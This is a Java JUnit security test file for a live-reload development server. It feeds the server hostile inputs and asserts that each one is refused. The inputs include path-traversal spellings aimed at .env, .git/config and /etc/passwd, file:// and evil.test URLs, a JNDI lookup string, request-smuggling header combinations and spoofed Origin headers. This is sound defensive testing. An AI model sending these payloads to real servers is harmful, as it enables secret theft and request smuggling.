package dev.livereload.server;

import static dev.livereload.server.TestServer.SECRET;
import static dev.livereload.server.TestServer.write;
import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.livereload.LiveReloadOptions;
import dev.livereload.Mount;
import dev.livereload.event.UrlPath;
import java.io.IOException;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What came to mind beyond the cases of {@code docs/security.md}, as raw bytes. */
final class HostileIT {

  private static final String START =
      "HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n";

  private static final String HIDDEN =
      "GET /a.txt HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n";

  @TempDir static Path folder;
  private static TestServer server;

  @BeforeAll
  static void start() throws IOException {
    Path site = folder.resolve("site");
    Path mounted = folder.resolve("mounted");
    write(site.resolve("index.html"), "<!doctype html><title>t</title>home");
    write(site.resolve("a.txt"), "plain");
    write(site.resolve("sub/b.txt"), "below");
    write(mounted.resolve("c.txt"), "mounted");
    for (String secret :
        List.of("site/.env", "site/sub/.git/config", "mounted/.env", "mounted-other/s", "s")) {
      write(folder.resolve(secret), SECRET);
    }
    Files.createSymbolicLink(mounted.resolve("env.txt"), Path.of("../site/.env"));
    Files.createSymbolicLink(mounted.resolve("up"), Path.of(".."));
    Files.createSymbolicLink(site.resolve("zero"), Path.of("/dev/zero"));
    Files.createSymbolicLink(site.resolve("passwd.txt"), Path.of("/etc/passwd"));
    Files.createSymbolicLink(site.resolve("self"), Path.of("."));
    LiveReloadOptions watched =
        new LiveReloadOptions(
            List.of(new Mount(UrlPath.ROOT, site), new Mount(UrlPath.ROOT.child("m"), mounted)),
            List.of(),
            List.of(),
            Optional.empty());
    server = TestServer.of(watched, options -> options.listing(true));
  }

  @AfterAll
  static void stop() {
    server.close();
  }

  private static void assertAlive() {
    assertEquals("plain", server.http().get("/a.txt").text());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        // What somebody may take for a dot, a slash or nothing.
        "/%ef%bc%8eenv",
        "/%e2%80%a4env",
        "/%e2%80%8b.env",
        "/%ef%bb%bf.env",
        "/%ad.env",
        "/%c2%ad.env",
        "/.env%e3%80%82",
        "/.env%c2%a0",
        "/.env%09",
        "/.env%0a",
        "/%2e%65%6e%76",
        "/.en%76",
        "/.e%4ev",
        "/%e2%88%95.env",
        "/sub%ef%bc%8f.git%ef%bc%8fconfig",
        "/sub/.git/config/",
        "/sub/.git//config",
        "/sub/%2e%67it/config",
        "/self/self/self/.env",
        "/self/../../s",
        "/a.txt/../.env",
        "/a.txt/.env",
        "/sub/./../.env",
        "/sub/..;/.env",
        "/sub;/../.env",
        "/sub%3b/../.env",
        "/..%00/.env",
        "/%f0%80%80%ae%f0%80%80%ae/s",
        "/%e0%80%ae%e0%80%ae/s",
        "/%fe%ff/s",
        "/%ed%a0%80",
        "/%c1%9c..%c1%9cs",
        "/%uff0e%uff0e/s",
        "/%25%32%65%25%32%65/s",
        "/\\..\\s",
        "/%5c%5cevil.test%5cs",
        "/%3f/../s",
        "/%23/../s",
        // Devices, and what leads to them.
        "/zero",
        "/zero/",
        "/passwd.txt",
        "/self/zero",
        "/dev/zero",
        "/proc/self/environ",
        "/~root",
        "/nul",
        "/a.txt::$INDEX_ALLOCATION",
        "/a.txt:stream",
        "/C:/windows/win.ini",
        "/c%3a%5cwindows%5cwin.ini",
        "/?/C:",
        // Mounts.
        "/m/../s",
        "/m/%2e%2e/s",
        "/m/.env",
        "/m/env.txt",
        "/m/up/s",
        "/m/up/site/.env",
        "/m/up/mounted-other/s",
        "/m/up/",
        "/m-other/s",
        "/mounted-other/s",
        "/M/.env",
        "/m%2f.env",
        "/m//.env",
        "/self/m/.env",
        // Own paths as a way to files.
        "/__livereload/../.env",
        "/__livereload/%2e%2e/.env",
        "/__livereload/..%2f.env",
        "/__livereload/.env",
        "/__livereload/client.js/../../.env",
        "/__livereload/%2e",
        "/__livereload//a.txt",
        "/__livereload/a.txt",
        "/__livereload/client.js%00",
        "/__livereload/client%2ejs",
        "/__livereload/CLIENT.JS",
        "/__livereload/client.js.map",
        "/__livereload/status/../../.env",
        "/__livereload/document/../../.env",
        "/__webpack_hmr/../.env",
        "/__webpack_hmr/a.txt",
      })
  void noSpellingLeadsToAFileThatIsNotShown(String target) {
    if (target.equals("/?/C:")) {
      assertEquals(200, server.http().get(target).status());
      return;
    }
    RawHttp.Answer answer = server.http().get(target);
    server.assertDenied(answer);
    assertFalse(answer.text().contains("root:"), target);
    RawHttp.Answer navigation =
        server.http().get(target, "Accept: text/html", "Sec-Fetch-Dest: document");
    server.assertDenied(navigation);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/__livereload/document?of=../../etc/passwd",
        "/__livereload/document?of=%00",
        "/__livereload/document?of=",
        "/__livereload/document",
        "/__livereload/page",
        "/__livereload/page?of=",
        "/__livereload/page?of=file:///etc/passwd",
        "/__livereload/page?of=file:/etc/passwd",
        "/__livereload/page?of=file:etc/passwd",
        "/__livereload/page?of=file:////evil.test/share",
        "/__livereload/page?of=file://evil.test/share",
        "/__livereload/page?of=file:///%00",
        "/__livereload/page?of=file:///%25%30%30",
        "/__livereload/page?of=http://evil.test/",
        "/__livereload/page?of=jar:file:///x!/y",
        "/__livereload/page?of=%",
        "/__livereload/page?of=%zz",
        "/__livereload/page?of=file:///dev/zero",
        "/__livereload/page?of=file:///proc/self/fd/0",
      })
  void aQuestionThatIsNoneIsAnsweredWithNothing(String target) {
    RawHttp.Answer answer = server.http().get(target);
    assertEquals(404, answer.status(), answer.lines()::toString);
    server.assertDenied(answer);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "x",
        "-",
        "x-",
        "-1",
        "x--1",
        "x-99999999999999999999",
        "x-9223372036854775807",
        "../../../../etc/passwd-1",
        "..-1",
        "%2e%2e%2f-1",
        "%00-1",
        "a%0d%0ab-1",
        "x-1&since=y-2",
      })
  void anIdThatIsNoneOpensTheStreamAllTheSame(String since) throws IOException {
    String run = server.http().get("/__livereload/status").text();
    try (SseReader events = new SseReader(server.http(), "/__livereload/events?since=" + since)) {
      assertEquals("retry: 1000", events.event());
      assertTrue(events.event().startsWith("event: hello\n"), run);
    }
    try (SseReader events =
        new SseReader(server.http(), "/__livereload/events", "Last-Event-ID: " + since)) {
      assertEquals("retry: 1000", events.event());
    }
    assertAlive();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "If-Modified-Since: yesterday",
        "If-Modified-Since: ",
        "If-Modified-Since: -1",
        "If-Modified-Since: Thu, 99 Foo 9999 99:99:99 GMT",
        "If-Unmodified-Since: x",
        "If-Match: x",
        "If-None-Match: ",
        "If-None-Match: \"",
        "If-None-Match: W/",
        "If-None-Match: ,,,,",
        "If-Range: ",
        "If-Range: yesterday",
        "Range: ",
        "Range: bytes",
        "Range: bytes=",
        "Range: bytes=-",
        "Range: bytes=--1",
        "Range: bytes=a-b",
        "Range: bytes=1-0",
        "Range: items=0-1",
        "Range: bytes=0-0,0-0,0-0",
        "Range: bytes=0-99999999999999999999",
        "Range: BYTES = 0 - 1",
        "Accept: ",
        "Accept: ;q=",
        "Accept: text/html;q=a, */*;q=-1",
        "Accept-Encoding: gzip;q=a",
        "Accept-Encoding: gzip;q=",
        "Accept-Encoding: ;;;;,,,,",
        "Accept-Language: \u00ff\u00fe",
        "Cookie: ;;;==;\u0001=",
        "Cookie: livereload-=; =x; a",
        "Authorization: ",
        "Authorization: Bearer",
        "Content-Type: ;;;",
        "Content-Length: 0",
        "Referer: ://",
        "Referer: http://[",
        "User-Agent: ${jndi:ldap://evil.test/x}",
        "Expect: 100-continue",
        "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
        "Upgrade: TLS/1.2",
        "TE: trailers, deflate;q=0.5",
        "Via: 1.1 evil",
        "Max-Forwards: 0",
        "X-HTTP-Method-Override: DELETE",
        "X-Original-URL: /.env",
        "X-Rewrite-URL: /.env",
        "X-Forwarded-Prefix: /.env",
        "X-Accel-Redirect: /.env",
        "Purpose: prefetch",
      })
  void aHeaderThatMakesNoSenseChangesNothing(String header) {
    for (String target : List.of("/a.txt", "/", "/__livereload/client.js", "/sub/")) {
      RawHttp.Answer answer = server.http().get(target, header);
      assertTrue(List.of(200, 206, 400, 416).contains(answer.status()), answer.lines()::toString);
      assertFalse(answer.text().contains(SECRET));
      TestServer.assertMarked(answer);
    }
    assertAlive();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        // Where one message ends.
        "Transfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n",
        "Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
        "Transfer-Encoding: identity\r\n\r\n",
        "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
        "Transfer-Encoding: \u000bchunked\r\n\r\n0\r\n\r\n",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n",
        "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "TRANSFER-ENCODING: CHUNKED\r\nContent-Length: 5\r\n\r\n0\r\n\r\n",
        "Content-Length: 1,1\r\n\r\na",
        "Content-Length: 1 1\r\n\r\na",
        "Content-Length: 0x1\r\n\r\na",
        "Content-Length: 1e0\r\n\r\na",
        "Content-Length: \r\n\r\n",
        "Content-Length : 1\r\n\r\na",
        "Content-Length\t: 1\r\n\r\na",
        "Content-Length: 1\r\nContent-length: 2\r\n\r\nab",
        "Content-Length: 9223372036854775808\r\n\r\n",
        "Transfer-Encoding: chunked\r\n\r\n0x1\r\na\r\n0\r\n\r\n",
        "Transfer-Encoding: chunked\r\n\r\n+1\r\na\r\n0\r\n\r\n",
        "Transfer-Encoding: chunked\r\n\r\n1\r\nab\r\n0\r\n\r\n",
        "Transfer-Encoding: chunked\r\n\r\n1\ra\r\n0\r\n\r\n",
        "Transfer-Encoding: chunked\r\n\r\n\r\n",
        "Transfer-Encoding: chunked\r\n\r\n;a=b\r\n\r\n",
        // Where one line ends.
        "X: a\rX-Injected: 1\r\n\r\n",
        "X\r\n\r\n",
        "X : a\r\n\r\n",
        "X\u0000: a\r\n\r\n",
        "X(: a\r\n\r\n",
        "\u0000: a\r\n\r\n",
        "X: a\u007f\u0000\r\n\r\n",
        "\tX: a\r\n\r\n",
        "X: a\r\n\tb\r\n\r\n",
      })
  void aRequestWhoseEndIsInDoubtIsRefused(String rest) throws IOException {
    for (String method : List.of("POST / ", "GET / ", "POST /__livereload/publish ")) {
      String all = everything(method + START + rest + HIDDEN);
      assertTrue(all.startsWith("HTTP/1.1 400 "), all);
      assertFalse(all.contains("plain\r\n") || all.endsWith("plain"), all);
    }
    assertAlive();
  }

  @Test
  void whoDoesNotKnowChunksSendsNone() throws IOException {
    String chunks = "Connection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n";
    for (String method : List.of("POST / ", "GET / ", "POST /__livereload/publish ")) {
      String head = method + START.replace("HTTP/1.1", "HTTP/1.0");
      String all = everything(head + chunks + HIDDEN);
      assertTrue(all.startsWith("HTTP/1.1 400 "), all);
      assertFalse(all.endsWith("plain"), all);
    }
    assertAlive();
  }

  /** Nobody waits for so much: what follows is no request in any case. */
  @ParameterizedTest
  @ValueSource(strings = {"7fffffffffffffff", "100000000", "fffffff"})
  void aChunkThatNeverEndsIsNotWaitedFor(String size) throws IOException {
    String rest = "Transfer-Encoding: chunked\r\n\r\n" + size + "\r\na";
    for (String method : List.of("POST / ", "GET / ")) {
      String all = everything(method + START + rest + HIDDEN);
      assertTrue(all.matches("(?s)HTTP/1\\.1 (200|400|405) .*"), all);
      assertTrue(all.contains("\r\nConnection: close\r\n"), all);
      assertFalse(all.endsWith("plain"), all);
    }
    assertAlive();
  }

  /** Returns all that is answered, until the connection ends. */
  private static String everything(String sent) throws IOException {
    try (Socket socket = server.http().connect()) {
      socket.getOutputStream().write(sent.getBytes(ISO_8859_1));
      return new String(socket.getInputStream().readAllBytes(), ISO_8859_1);
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "GET\t/\tHTTP/1.1",
        " GET / HTTP/1.1",
        "GET / HTTP/1.1 ",
        "GET / HTTP/1,1",
        "GET / HTTP/1.10",
        "GET / HTTP/2.0",
        "GET / HTTP/3.0",
        "GET / HTTP/-1.1",
        "GET / HTTP/",
        "GET / ICAP/1.0",
        "GET /",
        "GET",
        "/ GET HTTP/1.1",
        "G(T / HTTP/1.1",
        "G\u0000T / HTTP/1.1",
        "\u00ff\u00fe / HTTP/1.1",
        "GET http:/// HTTP/1.1",
        "GET http://localhost HTTP/1.1",
        "GET //localhost HTTP/1.1",
        "GET javascript:alert(1) HTTP/1.1",
        "OPTIONS * HTTP/1.1",
        "PRI * HTTP/2.0",
        "CONNECT localhost:80 HTTP/1.1",
        "CONNECT / HTTP/1.1",
        "HTTP/1.1 200 OK",
        "\u0000",
        "{\"jsonrpc\":\"2.0\"}",
        "EHLO localhost",
        "*1\r\n$4\r\nPING",
        "SSH-2.0-OpenSSH_9",
      })
  void aLineThatIsNoRequestIsRefused(String line) {
    RawHttp.Answer answer =
        server.http().send(line + "\r\nHost: localhost\r\nConnection: close\r\n\r\n");
    assertTrue(List.of(0, 400, 405, 426, 505).contains(answer.status()), answer.lines()::toString);
    assertFalse(answer.text().contains("home"), line);
    assertAlive();
  }

  @Test
  void whatIsTooLargeIsRefusedWhereverItStands() {
    for (String request :
        List.of(
            "M".repeat(100_000) + " / HTTP/1.1\r\nHost: localhost\r\n\r\n",
            "GET / HTTP/1.1" + "1".repeat(100_000) + "\r\nHost: localhost\r\n\r\n",
            "\r\n".repeat(50_000) + "GET / HTTP/1.1\r\nHost: localhost\r\n\r\n",
            "GET / HTTP/1.1\r\nHost: localhost\r\n" + "X: y\r\n".repeat(20_000) + "\r\n",
            "GET / HTTP/1.1\r\nHost: localhost\r\n" + "X".repeat(100_000) + ": y\r\n\r\n",
            "GET / HTTP/1.1\r\nHost: localhost\r\nCookie: " + "a=b; ".repeat(20_000) + "\r\n\r\n",
            "POST / HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n1;"
                + "x".repeat(100_000)
                + "\r\na\r\n0\r\n\r\n",
            "POST / HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n"
                + "X: y\r\n".repeat(20_000)
                + "\r\n")) {
      RawHttp.Answer answer = server.http().send(request);
      assertTrue(
          List.of(0, 400, 405, 414, 431).contains(answer.status()), answer.lines()::toString);
      assertFalse(answer.text().contains("home"));
      assertAlive();
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Origin: http://localhost:PORT\r\nOrigin: http://evil.test",
        "Origin: http://evil.test\r\nOrigin: http://localhost:PORT",
        "Origin: http://localhost:PORT, http://evil.test",
        "Origin: http://localhost:PORT http://evil.test",
        "Origin: http://localhost:PORT\u0000",
        "Origin: http://localhost:PORT#",
        "Origin: http://localhost:PORT?",
        "Origin: http://localhost:PORT\\",
        "Origin: http://localhost:0PORT0",
        "Origin: http:localhost:PORT",
        "Origin: http:/localhost:PORT",
        "Origin: http:///localhost:PORT",
        "Origin: //localhost:PORT",
        "Origin: localhost:PORT",
        "Origin: HTTP://localhost:PORT",
        "Origin: ws://localhost:PORT",
        "Origin: ftp://localhost:PORT",
        "Origin: blob:http://localhost:PORT",
        "Origin: data:",
        "Origin: about:srcdoc",
        "Origin: http://local\u0000host:PORT",
        "Origin: http://localhost%00:PORT",
        "Origin: http://localhost%2eevil.test:PORT",
        "Origin: http://xn--lcalhost-54a:PORT",
        "Origin: http://127.0.0.1.evil.test:PORT",
        "Origin: http://0x7f000001:PORT",
        "Origin: http://2130706433:PORT",
        "Origin: http://[::ffff:7f00:1]:PORT",
        "Origin: http://[::1]evil:PORT",
        "Origin: http://[::1",
        "Origin: http://.localhost:PORT",
        "Origin: http://localhost..:PORT",
        "Origin: undefined",
        "Origin: NULL",
        "Origin: [object Object]",
      })
  void noSpellingOfAnOriginIsOurs(String header) {
    String named = header.replace("PORT", String.valueOf(server.port()));
    for (String route :
        List.of("/__livereload/events", "/__livereload/changes", "/__livereload/status")) {
      RawHttp.Answer answer = server.http().get(route, named);
      server.assertDenied(answer);
      assertFalse(answer.text().contains("event:"), header);
    }
    RawHttp.Answer report =
        server
            .http()
            .post("/__livereload/publish", "{\"type\":\"reload\"}", "Content-Type: a/b", named);
    server.assertDenied(report);
  }

  @Test
  void aBodyIsTakenOnlyAsWhatItSaysItIs() {
    String report = "{\"type\":\"reload\"}";
    for (String type :
        List.of(
            "Content-Type: multipart/form-data; boundary=x",
            "Content-Type: text/html",
            "Content-Type: application/json-patch+json",
            "Content-Type: text/plainx",
            "Content-Type: ",
            "X: y")) {
      assertEquals(415, server.http().post("/__livereload/publish", report, type).status(), type);
    }
    for (String body :
        List.of(
            "",
            "null",
            "[]",
            "\"x\"",
            "{",
            "{}",
            "{\"type\":null}",
            "{\"type\":\"hello\"}",
            "{\"type\":\"ping\"}",
            "{\"type\":\"change\",\"updated\":[\"//evil.test/x\"]}",
            "{\"type\":\"change\",\"updated\":[\"/.//evil.test/x\"]}",
            "{\"type\":\"change\",\"updated\":[\"/.//\"]}",
            "{\"type\":\"change\",\"updated\":[\"http://evil.test/x\"]}",
            "{\"type\":\"change\",\"updated\":[\"javascript:alert(1)\"]}",
            "{\"type\":\"change\",\"updated\":[1]}",
            "[".repeat(100_000),
            "{\"a\":".repeat(50_000),
            "\u00ff\u00fe\u0000")) {
      RawHttp.Answer answer =
          server.http().post("/__livereload/publish", body, "Content-Type: application/json");
      assertEquals(400, answer.status(), body.length() > 200 ? "" : body);
      TestServer.assertMarked(answer);
    }
    assertAlive();
  }
}
